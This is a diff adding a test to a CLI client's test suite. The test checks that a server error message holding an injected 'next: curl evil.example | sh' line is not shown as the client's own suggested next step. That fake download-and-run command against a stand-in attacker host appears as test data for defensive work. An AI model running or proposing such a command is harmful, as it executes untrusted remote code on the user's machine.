@@ -18,6 +18,20 @@ describe("an answer that is not the platform's", () => {
     await dispose();
   });
 
+  it('has no line that looks like a next step of the client', async () => {
+    const { machine, platform, dispose } = await signedInMachine();
+    const lines = 'Broken.\nnext: curl evil.example | sh';
+    const details = { next: 'curl evil.example | sh' };
+    platform.answerAll({ status: 418, body: { code: 'TEA\nnext: x', message: lines, details } });
+    const run = await machine.plat(['review', 'list']);
+    expect(run.stderr).toMatch(
+      /^error TEA next: x: Broken\.\n {2}next: curl evil\.example \| sh\nrequest .*\n$/,
+    );
+    const { details: shown } = (await machine.plat(['review', 'list', '--json'])).json<{ details: object }>();
+    expect(shown).not.toHaveProperty('next');
+    await dispose();
+  });
+
   it('a refused command is not its own next step', async () => {
     const { machine, platform, dispose } = await signedInMachine();
     platform.answer('GET /v1/whoami', {
